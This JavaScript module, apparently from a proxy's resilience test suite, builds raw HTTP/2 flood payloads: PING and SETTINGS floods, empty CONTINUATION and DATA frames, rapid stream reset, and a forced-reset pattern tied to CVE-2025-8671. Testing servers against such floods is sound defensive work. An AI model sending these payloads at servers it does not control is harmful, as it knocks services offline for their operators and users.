// The same as flood-kinds.mjs over HTTP/2: frames that cost their sender next to nothing (RFC 9113), with prior knowledge on
// the proxy port.
// @ts-check

const DATA = 0;
const HEADERS = 1;
const PRIORITY = 2;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;
const END_STREAM = 1;
const END_HEADERS = 4;
const CANCEL = 8;
/** Streams opened and reset in each repetition; they fill about a MiB. */
const STREAMS = 20_000;

/** @param {number} type @param {number} flags @param {number} id @param {Buffer} [payload] */
function frame(type, flags, id, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, payload]);
}

/** Fields as indices of the static table, and as literals without indexing (RFC 7541 section 6). @param {string} host */
function fields(host, method = 0x82, path = "/") {
  const literal = (/** @type {number} */ name, /** @type {string} */ value) =>
    Buffer.concat([Buffer.of(name, value.length), Buffer.from(value)]);
  return Buffer.concat([Buffer.of(method, 0x86), literal(0x04, path), literal(0x01, host)]);
}

/** @param {number} value */
function uint32(value) {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

const START = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(SETTINGS, 0, 0)]);
const POST = 0x83;

/** @param {string} host @returns {readonly import("./flood-kinds.mjs").FloodKind[]} */
export function h2FloodKinds(host) {
  const openUpload = frame(HEADERS, END_HEADERS, 1, fields(host, POST, "/endless"));
  const streams = (/** @type {(id: number) => Buffer[]} */ framesOf) =>
    Buffer.concat(Array.from({ length: STREAMS }, (_, i) => framesOf(2 * i + 1)).flat());
  const request = fields(host);
  const kind = (/** @type {string} */ name, /** @type {Buffer} */ bytes, first = START) => ({
    name: `HTTP/2: ${name}`,
    way: /** @type {const} */ ("proxy"),
    first,
    bytes,
  });
  return [
    kind("PING", frame(PING, 0, 0, Buffer.alloc(8))),
    kind("SETTINGS", frame(SETTINGS, 0, 0)),
    kind("PRIORITY", frame(PRIORITY, 0, 1, Buffer.alloc(5, 3))),
    kind("WINDOW_UPDATE of 1 byte", frame(WINDOW_UPDATE, 0, 0, uint32(1))),
    kind("empty DATA", frame(DATA, 0, 1), Buffer.concat([START, openUpload])),
    kind(
      "empty CONTINUATION",
      frame(CONTINUATION, 0, 1),
      Buffer.concat([START, frame(HEADERS, END_STREAM, 1, request)]),
    ),
    kind(
      "stream opened and reset",
      streams((id) => [
        frame(HEADERS, END_HEADERS | END_STREAM, id, request),
        frame(RST_STREAM, 0, id, uint32(CANCEL)),
      ]),
    ),
    kind(
      "stream that is made to be reset", // a window of 0: the server must reset it (CVE-2025-8671)
      streams((id) => [
        frame(HEADERS, END_HEADERS | END_STREAM, id, request),
        frame(WINDOW_UPDATE, 0, id, uint32(0)),
      ]),
    ),
    kind(
      "GET",
      streams((id) => [frame(HEADERS, END_HEADERS | END_STREAM, id, request)]),
    ),
  ];
}
